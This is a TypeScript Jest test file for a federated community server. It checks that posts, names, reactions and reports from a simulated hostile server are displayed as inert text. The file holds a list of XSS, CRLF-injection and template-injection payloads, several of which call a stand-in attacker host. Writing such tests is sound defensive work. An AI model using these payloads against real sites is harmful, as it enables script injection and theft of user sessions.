import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { postKey } from '../../server/community/addresses.ts';
import { communityIri, postIri } from '../../server/community/ids.ts';
import { CHROMIUM, openBrowser } from '../journeys/browser.ts';
import { activity, note, post, unique } from '../support/attacker.ts';
import { type KeyPair, type RemoteActor, type RemoteOrigin, startRemoteOrigin } from '../support/remote-origin.ts';
import { spareKeys } from '../support/spare-keys.ts';
import { Stage } from '../support/stage.ts';
import { PASSWORD, Visitor } from '../support/visitor.ts';
import { until } from '../support/wait.ts';

/** What eve puts into every field that another server fills: on no page does it run, or call home (CON-01, CON-02). */

let stage: Stage;
let evil: RemoteOrigin;
let eve: RemoteActor;
let coven: RemoteActor;
let keys: KeyPair;
/** Brought in late: the parser it reads with is the sanitiser's too, and Jest loads it only one way at a time. */
let livelyIn: (page: string, origin: string) => readonly string[];

/** Where a page that gave in would ask. */
const HOME = '/called-home';
const RUN = 'document.title="it ran";alert(1)';
const home = () => evil.origin + HOME;

const payloads = (): readonly string[] => [
  `<script>${RUN}</script>`,
  `<script src="${home()}"></script>`,
  `<img src=x onerror='${RUN}'><img src="${home()}">`,
  `<svg/onload='${RUN}'><image href="${home()}"/></svg>`,
  `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`,
  `<a href="javascript:${RUN}">x</a><a href=" java\nscript:${RUN}">x</a><a href="&#106;avascript:${RUN}">x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a><a href="vbscript:x">x</a><a href="//${evil.host}/x">x</a>`,
  `<a href="\\\\${evil.host}/x">x</a><a href="/sign-in">x</a><a href="?x">x</a><a href="file:///etc/passwd">x</a>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe><iframe src="${home()}"></iframe>`,
  `<details open ontoggle='${RUN}'>x</details><input autofocus onfocus='${RUN}'>`,
  `<noscript><p title="</noscript><img src=x onerror='${RUN}'>"></noscript>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror='${RUN}'&gt;">`,
  `<style>@import "${home()}";*{background:url(${home()})}</style><p style="background:url(${home()})">x</p>`,
  `<link rel=stylesheet href="${home()}"><meta http-equiv=refresh content="0;url=${home()}"><base href="${home()}">`,
  `<form action="${home()}"><button formaction="javascript:${RUN}">x</button></form>`,
  `<video poster="${home()}" src="${home()}" onloadstart='${RUN}'></video><object data="${home()}"></object>`,
  `{{7*7}}\${7*7}<%= 7*7 %>`,
  `</title></textarea></style></script><script>${RUN}</script>`,
  `]]><script>${RUN}</script><![CDATA[`,
  `"><img src=x onerror='${RUN}'>`,
  `' onmouseover='${RUN}' x='`,
  `&lt;script&gt;${RUN}&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;`,
  `x\r\nSet-Cookie: session=eve\r\n\r\n<script>${RUN}</script>`,
  `<plaintext><xmp><!--<template><select><option>`,
  `\u202E<\u0000script>${RUN}</script>\uFEFF<scr\u0000ipt>`,
  `javascript:${RUN}`,
];

beforeAll(async () => {
  [stage, evil, keys] = await Promise.all([Stage.open(), startRemoteOrigin('eve'), spareKeys()]);
  ({ livelyIn } = await import('../support/inert.ts'));
  eve = await evil.actor('eve', { keys });
  coven = await evil.actor('coven', { type: 'Group', keys });
  evil.serve(HOME, { type: 'text/javascript', body: RUN });
  await stage.join(eve);
});
afterAll(async () => {
  await Promise.all([stage, evil].map((one) => one?.close()));
});

/** Everything that a post from elsewhere may say, filled with one payload. */
function filled(author: RemoteActor, to: string, what: string): readonly object[] {
  const file = { type: 'Document', mediaType: 'image/png', url: what, name: what };
  const own = { type: 'Image', mediaType: 'image/png', url: home(), name: what };
  const common = {
    name: what,
    summary: what,
    url: [what, { type: 'Link', href: what, mediaType: 'text/html' }],
    contentMap: { [what]: what, en: what },
    attachment: [
      file,
      own,
      { type: 'Link', href: what, name: what },
      { type: 'PropertyValue', name: what, value: what },
    ],
    tag: [
      { type: 'Emoji', name: what, icon: { type: 'Image', url: home() } },
      { type: 'Emoji', name: ':x:', icon: { type: 'Image', url: what } },
      { type: 'Hashtag', name: `#${what}`, href: what },
      { type: 'Mention', name: what, href: what },
    ],
    icon: { type: 'Image', url: home() },
    image: { type: 'Image', url: home() },
    preview: { type: 'Note', content: what },
    location: { type: 'Place', name: what, address: what },
    startTime: what,
    published: new Date().toISOString(),
    inLanguage: what,
    generator: what,
  };
  const { name: _, ...nameless } = common;
  const words = (more: object) => note(author, to, `Payload ${what}`, more);
  return [
    words({ ...common, 'dcterms:title': what }),
    words({ ...nameless, 'dcterms:title': what, sensitive: true }),
    words({ ...common, type: 'Article' }),
    words({ ...common, type: 'Page', mediaType: 'text/markdown', content: `[x](${what}) ![x](${home()}) ${what}` }),
    words({ ...common, type: 'Event', mediaType: 'text/plain' }),
    words({ ...common, type: 'Image', url: home() }),
    words({
      ...common,
      type: 'Question',
      oneOf: [`A ${what}`, `B ${what}`].map((option) => ({ type: 'Note', name: option, replies: { totalItems: 3 } })),
      closed: new Date().toISOString(),
    }),
  ];
}

/** Where each of them is read. */
const threads: string[] = [];

const INBOXES = [
  ['personal', () => stage.inboxOf('bob'), 0],
  ['shared', () => stage.sharedInbox, 1],
] as const;

async function inertAt(visitor: Visitor, paths: readonly string[]): Promise<void> {
  for (const path of paths) {
    const { status, text, headers } = await visitor.get(path, { Accept: 'text/html' });
    expect([path, status]).toEqual([path, 200]);
    expect([path, ...livelyIn(text, stage.origin)]).toEqual([path]);
    // For who is signed in one file of ours; never a line in a page, and nothing from elsewhere.
    expect(String(headers['content-security-policy'])).toMatch(/script-src '(?:none|self)'(?:;|$)/);
    expect(headers['x-content-type-options']).toBe('nosniff');
    expect(String(headers['set-cookie'] ?? '')).not.toContain('eve');
  }
}

describe.each(INBOXES)('eve’s words by the %s inbox', (_name, inbox, half) => {
  it('stand on no page as anything but words', async () => {
    const mine = payloads().filter((_, number) => number % 2 === half);
    const objects = mine.flatMap((what) => filled(eve, stage.guild, what));
    for (const object of objects) {
      expect((await post(inbox(), eve, activity('Create', eve, object))).status).toBe(202);
    }
    await stage.quiet();
    const ids = objects.map((object) => (object as { id: string }).id);
    const kept = await stage.db.collection('posts').countDocuments({ _id: { $in: ids as never[] } });
    expect(kept).toBe(ids.length);
    const paths = ids.map((id) => `/communities/guild/threads/${postKey(postIri(id))}`);
    threads.push(...paths);
    await inertAt(await stage.visitor('bob'), ['/communities/guild', '/', `/people/eve@${evil.host}`, ...paths]);
  });

  it('stand in no message, report, reaction or edit as anything but words', async () => {
    const words = note(eve, stage.guild, 'Harmless at first');
    await post(inbox(), eve, activity('Create', eve, words));
    for (const what of payloads()) {
      const direct = {
        ...note(eve, stage.guild, `To bob ${what}`, { name: what, summary: what }),
        to: [stage.person('bob')],
      };
      await post(inbox(), eve, activity('Create', eve, direct, { to: [stage.person('bob')] }));
      await post(
        inbox(),
        eve,
        activity('Flag', eve, [stage.person('bob'), words.id], { content: what, summary: what }),
      );
      await post(
        inbox(),
        eve,
        activity('EmojiReact', eve, words.id, {
          content: what,
          tag: [{ type: 'Emoji', name: what, icon: { url: home() } }],
        }),
      );
      await post(inbox(), eve, activity('Like', eve, words.id, { content: what }));
      await post(
        inbox(),
        eve,
        activity('Update', eve, {
          ...words,
          content: what,
          name: what,
          summary: what,
          updated: new Date().toISOString(),
        }),
      );
    }
    await stage.quiet();
    const thread = `/communities/guild/threads/${postKey(postIri(words.id))}`;
    const bob = await stage.visitor('bob');
    await inertAt(bob, ['/notices', thread, '/communities/guild/record']);
    expect((await bob.get('/notices')).text).toContain('To bob');
  });

  it('name nobody and no community in any other way than by words', async () => {
    for (const what of payloads().filter((_, number) => number % 2 === half)) {
      const loud = await evil.actor(unique('loud'), { keys });
      const more = { name: what, summary: what, url: what, icon: { type: 'Image', url: home() }, alsoKnownAs: what };
      evil.serve(new URL(loud.iri).pathname, {
        body: { ...loud.document, ...more, attachment: [{ type: 'PropertyValue', name: what, value: what }] },
      });
      await stage.join(loud);
      const said = note(loud, stage.guild, 'Words');
      await post(inbox(), loud, activity('Create', loud, said));
      await stage.quiet();
      const handle = `${new URL(loud.iri).pathname.split('/').at(-1)}@${evil.host}`;
      const thread = `/communities/guild/threads/${postKey(postIri(said.id))}`;
      threads.push(thread);
      await inertAt(await stage.visitor('bob'), [`/people/${handle}`, thread, '/communities/guild']);
    }
    await inertAt(new Visitor(stage.server), ['/communities/guild/record', '/communities/guild', '/']);
  });
});

it('names that are markup are no names', async () => {
  for (const what of payloads()) {
    const loud = await evil.actor(unique('loud'), { keys });
    evil.serve(new URL(loud.iri).pathname, { body: { ...loud.document, preferredUsername: what } });
    const { status } = await post(stage.sharedInbox, loud, activity('Follow', loud, stage.guild));
    expect([202, 401]).toContain(status);
    if (status === 202) expect(what).toMatch(/^[^<>"'\s]+$/);
  }
});

it('a community elsewhere and what it passes on are words too', async () => {
  const what = payloads().slice(0, 4).join('');
  const document = { ...coven.document, name: what, summary: what, icon: { type: 'Image', url: home() } };
  evil.serve(new URL(coven.iri).pathname, { body: document });
  await post(stage.sharedInbox, coven, activity('Like', coven, home()));
  const community = communityIri(coven.iri);
  await until('the coven is known', () => stage.house.communities.byIri(community));
  await stage.actions.joinCommunity({ person: stage.person('bob'), community });
  const follow = await until('bob’s Follow arrived', () => evil.delivered(coven).find(({ type }) => type === 'Follow'));
  await post(stage.sharedInbox, coven, activity('Accept', coven, follow));
  const objects = payloads().flatMap((one) => filled(eve, coven.iri, one).slice(0, 3));
  for (const object of objects) {
    await post(stage.sharedInbox, coven, activity('Announce', coven, activity('Create', eve, object)));
  }
  const removed = activity('Delete', eve, (objects[0] as { id: string }).id, { summary: what });
  await post(stage.sharedInbox, coven, activity('Announce', coven, removed));
  await stage.quiet();
  const bob = await stage.visitor('bob');
  const page = `/communities/coven@${evil.host}`;
  const [, first, second] = objects.map((one) => `${page}/threads/${postKey(postIri((one as { id: string }).id))}`);
  await inertAt(bob, [page, first ?? '', second ?? '', '/', '/communities']);
});

(CHROMIUM === undefined ? it.skip : it)(
  'in a browser that would run it, none of it runs, and nothing is asked of another server',
  async () => {
    const browser = await openBrowser();
    try {
      // Without the policy that forbids it: what is shown must be harmless by itself.
      const context = await browser.newContext({ baseURL: stage.origin, bypassCSP: true });
      const page = await context.newPage();
      const asked: string[] = [];
      const dialogs: string[] = [];
      page.on('request', (request) => void asked.push(new URL(request.url()).origin));
      page.on('dialog', (dialog) => {
        dialogs.push(dialog.message());
        void dialog.dismiss();
      });
      await page.goto('/sign-in');
      await page.getByLabel('Your name here').fill('bob');
      await page.getByLabel('Password').fill(PASSWORD);
      await page.getByRole('button', { name: 'Sign in' }).click();
      const lists = ['/', '/communities/guild', '/notices', '/communities/guild/record', `/people/eve@${evil.host}`];
      // Every fifth: of seven kinds of posts with every payload each.
      for (const path of [...lists, ...threads.filter((_, number) => number % 5 === 0)]) {
        await page.goto(path, { waitUntil: 'load' });
        expect(await page.title()).not.toBe('it ran');
      }
      expect(dialogs).toEqual([]);
      expect([...new Set(asked)]).toEqual([stage.origin]);
    } finally {
      await browser.close();
    }
  },
  120_000,
);

it('nothing was fetched from where eve would have liked it', () => {
  expect(evil.gets(HOME)).toBe(0);
});
